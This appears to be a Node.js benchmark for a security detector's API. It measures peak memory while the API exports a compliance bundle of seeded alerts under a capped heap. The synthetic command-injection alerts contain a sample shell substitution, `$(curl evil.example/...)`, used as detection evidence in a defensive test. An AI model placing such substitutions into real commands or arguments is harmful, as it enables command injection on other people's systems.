// Export benchmark (embedded default): the detector API's peak resident set while it writes a compliance
// bundle over N alerts, for two values of N, in an API process whose V8 heap is capped. A bundle is
// streamed to its files page by page, so it is written within the cap whatever N; a file built in
// memory (as alerts.ocsf.json once was: +320 MB of RSS over 50,000 alerts, measured with this bench before
// it was streamed) runs out of heap and
// takes the API down. Uncapped, V8 collects lazily and the peak rises with N even when nothing is kept.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Alert } from '@palisade/schema';
import { createStore, storeConfigFromEnv } from '@palisade/store';
// eslint-disable-next-line @nx/enforce-module-boundaries -- the workspace's bench harness lives in tools/, outside every project
import { peakRssMb, progress, report, startDetectorServe, stopChild, untilHealthy } from '../../../tools/bench-kit.mjs';

/** BENCH_EXPORT_ALERTS="10000,50000": the two alert counts compared. */
const [SMALL, LARGE] = (process.env.BENCH_EXPORT_ALERTS ?? '10000,50000').split(',').map(Number);
/** BENCH_EXPORT_HEAP_MB: the API's --max-old-space-size (its idle heap is some 40 MB). */
const HEAP_MB = Number(process.env.BENCH_EXPORT_HEAP_MB ?? 128);
const TOKEN = 'pal_bench_admin_token_for_the_export_bench';
const START = Date.parse('2026-11-20T00:00:00.000Z');

/** An alert as the engine writes one: a summary, a match, a few event ids. */
function alert(i) {
  return Alert.parse({
    id: `alr_bench_${String(i).padStart(8, '0')}`,
    ts: new Date(START + i * 10).toISOString(),
    category: 'command_injection',
    severity: ['low', 'medium', 'high', 'critical'][i % 4],
    title: `Shell command in the arguments of tool_${i % 10}`,
    server: `srv${i % 20}`,
    tool: `tool_${i % 10}`,
    sessionId: `bench-${i % 50}`,
    ruleId: 'command-injection',
    evidence: { summary: `The argument \`query\` carries \`$(curl evil.example/${i})\`, a shell substitution.`, matches: [{ field: 'arguments.query', text: `$(curl evil.example/${i})`, signal: 'shell substitution' }] },
    eventIds: [`evt_${i}_a`, `evt_${i}_b`, `evt_${i}_c`],
    incidentId: null,
  });
}

/** Seeds `count` alerts into a fresh home, starts the API on it, exports them all and reads the peak. */
async function exportPeak(count) {
  const home = mkdtempSync(path.join(tmpdir(), 'palisade-bench-export-'));
  const port = 40000 + Math.floor(Math.random() * 20000);
  const env = { ...process.env, PALISADE_HOME: home, PALISADE_LOG_LEVEL: 'error', PALISADE_API_PORT: String(port), PALISADE_ADMIN_TOKEN: TOKEN };
  let child;
  try {
    progress(`export: seeding ${count} alerts…`);
    const store = await createStore(storeConfigFromEnv(env));
    for (let i = 0; i < count; i += 5_000) await store.alerts.insertMany(Array.from({ length: Math.min(5_000, count - i) }, (_, k) => alert(i + k)));
    await store.close();

    child = startDetectorServe(['--api-only'], { env, nodeFlags: [`--max-old-space-size=${HEAP_MB}`] });
    const url = `http://127.0.0.1:${port}`;
    await untilHealthy(child, url);
    const idlePeakRssMb = peakRssMb(child.pid);
    progress(`export: writing the bundle of ${count} alerts…`);
    const started = performance.now();
    // An API that runs out of heap drops the connection: the bench then fails, as it should.
    const response = await fetch(`${url}/api/exports`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ from: new Date(START - 1000).toISOString(), to: new Date(START + count * 10 + 1000).toISOString(), format: 'ndjson' }),
    });
    const seconds = (performance.now() - started) / 1000;
    const record = await response.json();
    if (response.status !== 201) throw new Error(`export refused (${response.status}): ${JSON.stringify(record)}`);
    const ocsf = record.files.find((f) => f.path === 'alerts.ocsf.json');
    if (ocsf?.records !== count) throw new Error(`the OCSF file holds ${ocsf?.records} findings, not ${count}`);
    const peak = peakRssMb(child.pid);
    return { peakRssMb: peak, growthMb: peak === null || idlePeakRssMb === null ? null : Math.round((peak - idlePeakRssMb) * 10) / 10, seconds: Number(seconds.toFixed(2)), ocsfMb: Math.round(ocsf.bytes / 104857.6) / 10 };
  } finally {
    await stopChild(child);
    rmSync(home, { recursive: true, force: true });
  }
}

const small = await exportPeak(SMALL);
const large = await exportPeak(LARGE);
report({
  name: 'detector.export',
  figures: {
    heapLimitMb: HEAP_MB,
    smallAlerts: SMALL,
    largeAlerts: LARGE,
    smallPeakRssMb: small.peakRssMb,
    largePeakRssMb: large.peakRssMb,
    smallGrowthMb: small.growthMb,
    largeGrowthMb: large.growthMb,
    smallSeconds: small.seconds,
    largeSeconds: large.seconds,
    largeOcsfMb: large.ocsfMb,
  },
  units: {
    smallPeakRssMb: 'MB, peak resident set (VmHWM) of the API process (serve --api-only) once the bundle is written',
    smallGrowthMb: 'MB the peak rose over the idle API’s while the bundle was written',
    heapLimitMb: 'MB, --max-old-space-size of the API process; an export that holds its range in memory dies of it',
    smallSeconds: 's for POST /api/exports (synchronous) to answer with the signed bundle',
    largeOcsfMb: 'MB of alerts.ocsf.json in the large bundle',
  },
  goal: { largePeakRssMb: 'the large bundle written at all (within heapLimitMb), its peak close to the small one' },
});
